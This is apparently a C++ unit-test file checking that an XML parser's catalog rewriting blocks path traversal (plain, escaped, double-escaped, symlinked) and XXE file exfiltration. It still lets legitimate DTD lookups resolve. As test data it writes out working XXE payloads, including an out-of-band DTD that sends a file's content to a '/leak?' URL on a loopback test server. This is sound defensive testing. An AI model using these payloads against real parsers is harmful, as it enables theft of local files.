// A document from the network and an XML catalog that rewrites a web prefix
// to a local folder: names that climb out of the folder, spelt plainly or
// escaped, or through a link, never read a local file, and a DTD cannot
// send a file's content back; names inside the folder and exact entries
// still work. The catalogs are read once per process, so this runs apart.
#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <memory>
#include <string>

#include "doc/core/Doc.h"
#include "tests/support/LoopbackHttpServer.h"

using namespace quorrel;
using quorrel::test::HttpResponse;
using quorrel::test::LoopbackHttpServer;
namespace fs = std::filesystem;

namespace {

const std::string kSecret = "SECRET-4711";

bool Contains(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

void Write(const fs::path& path, const std::string& bytes) {
    fs::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << bytes;
}

class FetchedCatalog : public ::testing::Test {
protected:
    // Before the first parse of the process, which reads the catalogs.
    static void SetUpTestSuite() {
        std::string pattern = (fs::temp_directory_path() / "quorrel-catalog-XXXXXX").string();
        ASSERT_NE(mkdtemp(pattern.data()), nullptr);
        s_work = pattern;
        const fs::path dtds = s_work / "a" / "dtds";
        Write(s_work / "secret.txt", kSecret);
        Write(dtds / "shop.dtd",
              "<!ELEMENT shop (item*)><!ELEMENT item (#PCDATA)>\n"
              "<!ENTITY greeting SYSTEM \"http://dtds.example.org/v1/greeting.txt\">\n");
        Write(dtds / "greeting.txt", "hello");
        Write(s_work / "exact" / "shop.dtd", "<!ELEMENT shop (item*)><!ELEMENT item (#PCDATA)>");
        fs::create_symlink(s_work / "secret.txt", dtds / "link.txt");
        Write(s_work / "catalog.xml",
              "<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">\n"
              "  <rewriteSystem systemIdStartString=\"http://dtds.example.org/v1/\" "
              "rewritePrefix=\"file://" +
                  dtds.string() +
                  "/\"/>\n"
                  "  <system systemId=\"http://exact.example.org/shop.dtd\" uri=\"file://" +
                  (s_work / "exact" / "shop.dtd").string() + "\"/>\n</catalog>\n");
        ::setenv("XML_CATALOG_FILES",
                 ((s_work / "catalog.xml").string() + " file:///etc/xml/catalog").c_str(), 1);
    }
    static void TearDownTestSuite() {
        std::error_code ec;
        fs::remove_all(s_work, ec);
    }
    void SetUp() override {
        // Names of dtds.example.org reach the test server as its proxy, not the network.
        ::setenv("http_proxy", ("http://127.0.0.1:" + std::to_string(server.Port())).c_str(), 1);
        ::setenv("no_proxy", "127.0.0.1", 1);
        ::setenv("NO_PROXY", "127.0.0.1", 1);
    }

    struct Opened {
        UrlOpenResult result;
        std::string text;
        std::string messages;
    };
    Opened Open(const std::string& path, const std::string& body, bool validate) {
        server.Route(path, HttpResponse{200, "OK", body, {}});
        CollectingSink sink;
        CDoc doc(sink);
        if (!validate) {
            doc.OnValidateNo();
        }
        Opened opened{doc.OnOpenUrl(server.Url(path)), doc.Text(), ""};
        for (const std::string& m : sink.messages) {
            opened.messages += m + "\n";
        }
        return opened;
    }

    static inline fs::path s_work;
    LoopbackHttpServer server;
};

}  // namespace

TEST_F(FetchedCatalog, NamesThatLeaveTheRewrittenFolderReadNothing) {
    const std::string names[] = {
        "http://dtds.example.org/v1/../../secret.txt",
        "http://dtds.example.org/v1/%2e%2e/%2e%2e/secret.txt",
        "http://dtds.example.org/v1/%252e%252e/%252e%252e/secret.txt",
        "http://dtds.example.org/v1/link.txt",
    };
    for (bool validate : {true, false}) {
        for (const std::string& name : names) {
            SCOPED_TRACE(name + (validate ? " validating" : " not validating"));
            // An entity of the content.
            Opened entity =
                Open("/entity.xml", "<!DOCTYPE r [<!ENTITY s SYSTEM \"" + name + "\">]><r>&s;</r>",
                     validate);
            EXPECT_EQ(entity.result, UrlOpenResult::ParseError);
            EXPECT_FALSE(Contains(entity.text + entity.messages, kSecret)) << entity.text;

            // A DTD of the server's that would carry the file back in a URL.
            server.Route("/exfil.dtd",
                         HttpResponse{200,
                                      "OK",
                                      "<!ENTITY % file SYSTEM \"" + name +
                                          "\">\n<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" +
                                          server.Url("/leak?") + "%file;'>\">\n%wrap;\n%send;\n",
                                      {}});
            Opened exfil = Open("/exfil.xml", "<!DOCTYPE r SYSTEM \"exfil.dtd\"><r/>", validate);
            EXPECT_FALSE(Contains(exfil.text + exfil.messages, kSecret)) << exfil.messages;
            for (const std::string& request : server.Requests()) {
                EXPECT_FALSE(Contains(request, kSecret)) << request;
            }
        }
    }
    // Resolved first, the name is a web name again, and asked of the web.
    EXPECT_TRUE(
        Contains(Open("/plain.xml",
                      "<!DOCTYPE r [<!ENTITY s SYSTEM \"" + names[0] + "\">]><r>&s;</r>", false)
                     .messages,
                 "http://dtds.example.org/secret.txt"));
    // Escaped twice, it reaches the file and is refused as any local read is.
    Opened twice = Open("/twice.xml",
                        "<!DOCTYPE r [<!ENTITY s SYSTEM \"" + names[2] + "\">]><r>&s;</r>", false);
    EXPECT_TRUE(Contains(twice.messages, "a document from a URL cannot read local files"))
        << twice.messages;
}

TEST_F(FetchedCatalog, NamesInsideTheFolderAndExactEntriesStillWork) {
    for (const char* dtd :
         {"http://dtds.example.org/v1/shop.dtd", "http://dtds.example.org/v1/sub/../shop.dtd",
          "http://dtds.example.org/v1/%73hop.dtd"}) {
        SCOPED_TRACE(dtd);
        Opened valid = Open("/shop.xml",
                            std::string("<!DOCTYPE shop SYSTEM \"") + dtd +
                                "\"><shop><item>&greeting;</item></shop>",
                            true);
        EXPECT_EQ(valid.result, UrlOpenResult::Opened) << valid.messages;
        EXPECT_EQ(valid.messages, "");
        EXPECT_TRUE(Contains(valid.text, "hello")) << valid.text;
        // Validated against the catalog's DTD.
        EXPECT_EQ(Open("/bad.xml",
                       std::string("<!DOCTYPE shop SYSTEM \"") + dtd + "\"><shop><x/></shop>", true)
                      .result,
                  UrlOpenResult::ParseError);
    }
    Opened exact = Open(
        "/exact.xml",
        "<!DOCTYPE shop SYSTEM \"http://exact.example.org/shop.dtd\"><shop><item/></shop>", true);
    EXPECT_EQ(exact.result, UrlOpenResult::Opened) << exact.messages;
    // The system's catalog: exact entries found through delegations.
    Opened xhtml = Open("/page.xhtml",
                        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
                        "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
                        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head>"
                        "<body><p>a&copy;b</p></body></html>",
                        true);
    EXPECT_EQ(xhtml.result, UrlOpenResult::Opened) << xhtml.messages;
    EXPECT_TRUE(Contains(xhtml.text, "a\u00A9b")) << xhtml.text;
    // Nothing went to the network for them.
    for (const std::string& request : server.Requests()) {
        EXPECT_TRUE(request.starts_with("/")) << request;
    }
}
